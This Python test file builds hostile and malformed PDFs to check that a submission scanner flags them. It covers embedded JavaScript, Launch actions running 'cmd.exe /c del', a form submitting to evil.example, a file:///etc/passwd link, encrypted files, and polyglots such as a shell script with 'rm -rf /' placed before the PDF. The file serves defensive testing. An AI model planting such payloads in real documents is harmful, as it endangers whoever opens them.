"""Files that do something, are locked, or are two things at once."""

import io
import zipfile

import pikepdf

from submissions.tests.hostile.cases import (
    DIFFER,
    ENCRYPTED,
    FINE,
    NOT_PDF,
    REPAIRED,
    TRUNCATED,
    TWO,
    UNREADABLE,
    a_zip,
    add,
    case,
)
from submissions.tests.pdfs import make_pdf
from submissions.tests.raw_pdf import changed, stream, with_catalogue, with_content, with_page

# --- What acts -----------------------------------------------------------------------------------------------

_JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_SCRIPT = "active.javascript"
add("a script at opening", with_catalogue(b"/OpenAction " + _JS), _SCRIPT)
add("a script among the names", with_catalogue(b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", {6: _JS}), _SCRIPT)
add("a script when a page is shown", with_page(b"/AA << /O " + _JS + b" >>"), _SCRIPT)
add(
    "a script behind a link",
    with_page(b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + _JS + b" >>]"),
    _SCRIPT,
)
add(
    "a script behind another action",
    with_catalogue(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + _JS + b" >>"),
    _SCRIPT,
)
add(
    "a script under an escaped name",
    with_catalogue(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    _SCRIPT,
)
add("a script in a picture's place", with_catalogue(b"/OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >>"), _SCRIPT)
add(
    "a script address",
    with_page(b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"),
    _SCRIPT,
)


@case("a script in a compressed object", _SCRIPT)
def compressed_script() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(with_catalogue(b"/OpenAction " + _JS))) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


add(
    "a program behind a link",
    with_page(b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]"),
    "active.launch",
)
add(
    "a program at opening",
    with_catalogue(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c del) >> >>"),
    "active.launch",
)
add(
    "a file address",
    with_page(b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>]"),
    "active.file_link",
)
add(
    "a form that sends",
    with_catalogue(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
    "active.submit_form",
)
add("a form that reads in", with_catalogue(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "active.import_data")
add("an XFA form", with_catalogue(b"/AcroForm << /XFA 6 0 R /Fields [] >>", {6: stream(b"<xdp/>")}), "active.xfa")
add(
    "a media player",
    with_page(b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"),
    "active.rich_media",
)
add(
    "a film",
    with_page(b"/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>]"),
    "active.rich_media",
)
add(
    "a sound",
    with_catalogue(b"/OpenAction << /S /Sound /Sound 6 0 R >>", {6: stream(b"beep", b"/R 8000")}),
    "active.rich_media",
)
add(
    "a model in three dimensions",
    with_page(
        b"/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]", {6: stream(b"u3d", b"/Type /3D /Subtype /U3D")}
    ),
    "active.rich_media",
)
add("an embedded program", with_catalogue(
    b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
    {6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: stream(b"MZ", b"/Type /EmbeddedFile")},
), "active.embedded_file")  # fmt: skip
add("a folder of files", with_catalogue(b"/Collection << /View /D >>"), "active.portfolio")
add(
    "another file at opening",
    with_catalogue(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>"),
    "active.remote",
)
add(
    "a file inside at opening",
    with_catalogue(b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>"),
    "active.remote",
)
add(
    "an address opened without asking",
    with_catalogue(b"/OpenAction << /S /URI /URI (https://evil.example/track) >>"),
    "active.remote",
)
add(
    "content from elsewhere",
    changed({4: stream(b"", b"/F << /FS /URL /F (https://evil.example/c) >>")}),
    "active.remote",
)
add("a page from another file", with_content(
    b"/X Do", b"/XObject << /X 6 0 R >>",
    {6: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>")},
), "active.remote")  # fmt: skip

# --- Locked --------------------------------------------------------------------------------------------------


def _locked(**how) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(changed())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(**how))
    return out.getvalue()


for strength in (2, 4, 6):
    case(f"locked with a password, revision {strength}", ENCRYPTED)(
        lambda strength=strength: _locked(owner="o", user="u", R=strength, aes=strength > 3, metadata=strength > 3)
    )
    case(f"restricted without a password, revision {strength}", ENCRYPTED)(
        lambda strength=strength: _locked(owner="o", user="", R=strength, aes=strength > 3, metadata=strength > 3)
    )
add(
    "locked in an unknown way",
    changed(trailer=b"/Encrypt << /Filter /Vault /V 9 >> /ID [(a) (b)]"),
    ENCRYPTED,
    UNREADABLE,
)
add(
    "locked with a certificate",
    changed(trailer=b"/Encrypt << /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >> /ID [(a) (b)]"),
    ENCRYPTED,
    UNREADABLE,
)
add("a lock that is broken", changed(trailer=b"/Encrypt 42 /ID [(a) (b)]"), ENCRYPTED, UNREADABLE, REPAIRED)

# --- Two things at once --------------------------------------------------------------------------------------

add("a PDF with an archive behind it", changed() + a_zip(), TWO)


@case("an archive around a PDF", TWO, NOT_PDF)
def archive_around() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("paper.pdf", changed())
    return out.getvalue() + b"%%EOF"


add("a web page before the PDF", b"<html><script>alert(1)</script><!--" + changed() + b"-->", TWO)
add("a web page behind the PDF", changed() + b"<html><script>alert(1)</script></html>\n%%EOF", TWO)
add("a picture before the PDF", b"GIF89a/*" + changed(), TWO)
add("a program before the PDF", b"MZ" + bytes(200) + changed(), TWO)
add("a shell script before the PDF", b"#!/bin/sh\nrm -rf /\nexit\n" + changed(), TWO)
add("blanks before the PDF", b"\n\n   " + changed(), FINE, REPAIRED)
add("bytes of a mail before the PDF", b"Content-Type: application/pdf\r\n\r\n" + changed(), FINE, REPAIRED)
add("blanks behind the PDF", changed() + b"\n" * 2000, FINE)
add("ten thousand zeros behind the PDF", changed() + bytes(10_000), FINE, TRUNCATED)
add("another PDF behind the PDF", make_pdf(2) + changed(), "file.second_pdf", DIFFER, REPAIRED)

# --- Readers that disagree -----------------------------------------------------------------------------------


@case("a root for each reader", DIFFER, REPAIRED, UNREADABLE, FINE)
def two_roots() -> bytes:
    more = {6: b"<< /Type /Catalog /Pages 7 0 R >>", 7: b"<< /Type /Pages /Kids [3 0 R 3 0 R 3 0 R] /Count 3 >>"}
    return changed(more, trailer=b"/Root 6 0 R")


@case("one object twice", FINE, DIFFER, REPAIRED)
def object_twice() -> bytes:
    data = changed(table=False)
    at = data.index(b"trailer")
    other = b"2 0 obj\n<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>\nendobj\n"
    return data[:at] + other + data[at:]


@case("one key twice", FINE, DIFFER, REPAIRED)
def key_twice() -> bytes:
    return changed({2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Kids [3 0 R 3 0 R] /Count 2 >>"})
